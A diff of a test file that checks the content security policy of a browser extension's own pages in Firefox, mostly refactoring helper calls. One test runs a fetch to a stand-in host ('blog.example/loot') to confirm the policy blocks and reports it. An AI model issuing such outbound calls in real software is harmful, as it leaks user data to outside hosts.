@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { unreadIn } from './support/find-chapters.ts';
-import { journeyInFirefox, popupOf, within } from './support/firefox-journey.ts';
+import { journeyInFirefox, popupOf, textOf, within } from './support/firefox-journey.ts';
 
 const PAGES = ['popup.html', 'options.html', 'report.html', 'discuss.html', 'up-to.html'];
 
@@ -11,14 +11,16 @@ describe("the policy of the extension's own pages, in Firefox", () => {
     const { service, firefox, account } = journey();
     const popup = await popupOf(journey());
     const covers = () =>
-      popup.$$eval('img[src^="blob:"]', (all) => all.filter(({ naturalWidth }) => naturalWidth > 0).length);
+      popup.evaluate(
+        () => [...document.images].filter((each) => each.src.startsWith('blob:') && each.naturalWidth > 0).length,
+      );
     await expect.poll(covers, within).toBeGreaterThan(0);
     const { chapter } = unreadIn(service.fakeService.world, account);
     for (const name of PAGES) {
       const about = name === 'report.html' ? `category=chapter&objectId=${chapter.id}` : `chapter=${chapter.id}`;
       for (const query of ['', `?${about}`]) {
         const page = await firefox.open(name + query);
-        await expect.poll(() => page.$eval('body', ({ textContent }) => textContent), within).not.toBe('');
+        await expect.poll(() => textOf(page, 'body'), within).not.toBe('');
         await page.close();
       }
     }
@@ -28,7 +30,7 @@ describe("the policy of the extension's own pages, in Firefox", () => {
   it('keeps a page of ours from strange hosts and from pictures in addresses, and each is heard of', async () => {
     const { service, firefox } = journey();
     const page = await firefox.open('options.html');
-    await expect.poll(() => page.$eval('body', ({ textContent }) => textContent), within).not.toBe('');
+    await expect.poll(() => textOf(page, 'body'), within).not.toBe('');
     await page.evaluate(() => fetch('https://blog.example/loot?from=page', { mode: 'no-cors' }).catch(() => null));
     await page.evaluate(() => {
       new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
